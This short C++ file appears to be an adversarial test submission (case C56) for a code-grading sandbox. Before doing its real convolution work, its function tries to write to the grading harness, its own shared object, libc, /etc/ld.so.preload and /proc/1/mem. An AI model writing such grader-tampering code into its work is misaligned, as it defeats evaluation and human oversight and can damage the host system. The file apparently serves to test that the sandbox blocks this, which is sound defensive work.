// C56: overwrites the harness, its own shared object and the loader's preload list
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>

#include "honest.h"

void conv_forward_cpu(float *y, const float *x, const float *k, const int B, const int M, const int C, const int H, const int W, const int K) {
  int written = 0;
  for (const char* file : {"/opgrade/opgrade-harness", "/opgrade/submission/submission.so", "/opgrade/lib/libc.so.6",
                           "/etc/ld.so.preload", "/opgrade/lib/libevil.so", "/usr/bin/opgrade", "/proc/1/mem"}) {
    const int fd = open(file, O_WRONLY | O_CREAT, 0755);
    if (fd >= 0 && write(fd, "x", 1) == 1) written++;
    if (fd >= 0) close(fd);
  }
  printf("%d written\n", written);
  slow_conv(y, x, k, B, M, C, H, W, K);
}
